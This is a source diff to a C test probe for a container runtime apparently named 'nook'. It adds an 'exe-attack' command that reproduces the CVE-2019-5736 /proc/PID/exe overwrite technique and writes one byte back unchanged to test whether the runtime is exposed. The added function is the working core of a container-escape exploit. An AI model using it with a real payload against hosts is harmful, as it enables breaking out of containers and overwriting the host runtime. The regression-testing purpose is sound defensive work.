@@ -7,7 +7,7 @@
  * Commands: ids caps ns pid hostname rlimits fds env cwd umask keyring oom
  * mounts sleep=SECS exit=N kill=SIGNUM cat=PATH write=PATH:TEXT stat=PATH
  * wait-signal[=READYPATH] pause ready=PATH syscall=NR[:A0...] syscall32=NR[:A0...]
- * sched ioprio personality affinity mempolicy sysctl=NAME.  An unknown command is reported
+ * sched ioprio personality affinity mempolicy sysctl=NAME exe-attack=SECS.  An unknown command is reported
  * on stderr before anything runs, and the probe exits 2.
  *
  * kill=SIGNUM resets the signal to its default action and sends it to the
@@ -730,6 +730,77 @@ static int cmd_sysctl(const char *arg)
     return 0;
 }
 
+/* CVE-2019-5736 from the container's side: find a process whose
+ * /proc/PID/exe is the runtime (a link naming "nook" that is not this probe),
+ * hold it O_PATH, wait until that process has exec'd something else or gone,
+ * then reopen the held file for writing and write its first byte back
+ * unchanged (harmless even if the attack works). Gives up after SECS. */
+static bool is_runtime_exe(const char *link)
+{
+    return strstr(link, "nook") != NULL && strstr(link, "nook-probe") == NULL;
+}
+
+static int find_runtime(char *link, size_t size, int *held)
+{
+    DIR *d = opendir("/proc");
+    struct dirent *e;
+    int pid = 0;
+
+    while (d && pid == 0 && (e = readdir(d))) {
+        char path[64];
+        int p = atoi(e->d_name);
+        if (p <= 0 || p == getpid())
+            continue;
+        snprintf(path, sizeof(path), "/proc/%d/exe", p);
+        ssize_t n = readlink(path, link, size - 1);
+        if (n < 0)
+            continue;
+        link[n] = '\0';
+        if (!is_runtime_exe(link))
+            continue;
+        *held = open(path, O_PATH | O_CLOEXEC);
+        if (*held >= 0)
+            pid = p;
+    }
+    if (d)
+        closedir(d);
+    return pid;
+}
+
+static int cmd_exe_attack(const char *arg)
+{
+    time_t end = time(NULL) + atoi(arg);
+    char link[PATH_MAX], now[PATH_MAX], path[64];
+    int held = -1, pid = 0;
+
+    while (pid == 0 && time(NULL) < end)
+        pid = find_runtime(link, sizeof(link), &held);
+    if (pid == 0) {
+        printf("attack=none\n");
+        return 0;
+    }
+    printf("attack.exe=%s\n", link);
+    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+    for (;;) {
+        ssize_t n = readlink(path, now, sizeof(now) - 1);
+        if (n < 0 || strcmp((now[n] = '\0', now), link) != 0 || time(NULL) >= end)
+            break;
+    }
+    snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
+    int w = open(path, O_WRONLY | O_CLOEXEC);
+    printf("attack.open=%s\n", w < 0 ? errname(errno) : "OK");
+    if (w >= 0) {
+        char b;
+        int r = open(path, O_RDONLY | O_CLOEXEC);
+        bool ok = r >= 0 && pread(r, &b, 1, 0) == 1 && pwrite(w, &b, 1, 0) == 1;
+        printf("attack.write=%s\n", ok ? "OK" : errname(errno));
+        if (r >= 0)
+            close(r);
+        close(w);
+    }
+    return 0;
+}
+
 struct command {
     const char *name;
     bool takes_arg; /* "name=ARG" when true, bare "name" otherwise */
@@ -768,6 +839,7 @@ static const struct command commands[] = {
     {"affinity", false, false, cmd_affinity},
     {"mempolicy", false, false, cmd_mempolicy},
     {"sysctl", true, false, cmd_sysctl},
+    {"exe-attack", true, false, cmd_exe_attack},
 };
 
 /* Finds the command for WORD and points *arg at its argument (or NULL). */
